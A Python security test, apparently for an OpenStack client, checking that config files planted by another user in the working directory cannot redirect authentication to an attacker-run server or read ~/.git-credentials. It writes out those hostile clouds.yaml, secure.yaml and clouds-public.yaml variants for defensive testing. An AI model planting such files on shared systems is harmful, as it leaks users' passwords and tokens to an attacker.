"""Files of other users in the current directory do not get the user's password or the first line of a file."""

from stranger import *

if os.geteuid() != 0:
    print("needs root, to play two users")
    sys.exit(77)
seen = []


def login(c, l, h, b, s):
    seen.append(b.decode())
    c.sendall(resp("201 Created", token(s.base), "X-Subject-Token: SekretTok77\r\n"))


evil = Server(usual, login=login)
EV = f"auth: {{auth_url: '{evil.base}/v3', username: me, project_name: p, user_domain_id: default, project_domain_id: default}}"
PROD = "clouds:\n  prod:\n    auth: {auth_url: 'https://prod.invalid/v3', username: me, project_name: p, password: Sekret99, user_domain_id: default, project_domain_id: default}\n"
for what, mine, theirs in (
    (
        "clouds.yaml with password_file",
        {},
        {"clouds.yaml": f"clouds:\n  prod:\n    {EV}\n    password_file: ~/.git-credentials\n"},
    ),
    (
        "clouds.yaml beside the user's secure.yaml",
        {"secure.yaml": "clouds:\n  prod:\n    auth: {password: Sekret99}\n"},
        {"clouds.yaml": f"clouds:\n  prod:\n    {EV}\n"},
    ),
    (
        "secure.yaml over the user's clouds.yaml",
        {"clouds.yaml": PROD},
        {"secure.yaml": f"clouds:\n  prod:\n    auth: {{auth_url: '{evil.base}/v3'}}\n"},
    ),
    (
        "clouds-public.yaml in place of a built-in vendor",
        {"clouds.yaml": PROD.replace("auth: {auth_url: 'https://prod.invalid/v3', ", "profile: ovh\n    auth: {")},
        {"clouds-public.yaml": f"public-clouds:\n  ovh:\n    auth: {{auth_url: '{evil.base}/v3'}}\n"},
    ),
):
    h = home()
    os.makedirs(h + "/.config/openstack")
    open(h + "/.git-credentials", "w").write("https://me:ghp_LocalSecret@github.com\n")
    cwd = tempfile.mkdtemp()
    os.chmod(cwd, 0o755)
    os.chown(cwd, 65534, 65534)
    seen.clear()
    for n, t in mine.items():
        open(f"{h}/.config/openstack/{n}", "w").write(t)
    for n, t in theirs.items():
        open(f"{cwd}/{n}", "w").write(t)
        os.chown(f"{cwd}/{n}", 65534, 65534)
    r = run(LIST, {"PATH": os.environ["PATH"], "HOME": h, "OS_CLOUD": "prod", "NO_PROXY": "*"}, cwd=cwd, timeout=40)
    told = any(x in "".join(seen) for x in ("Sekret99", "ghp_"))
    expect(
        not told or list(theirs)[0] in r.err,
        f"somebody else's {what}: refused, or at least told of (exit {r.rc}, said {r.err.strip()[:80]!r})",
    )
done()
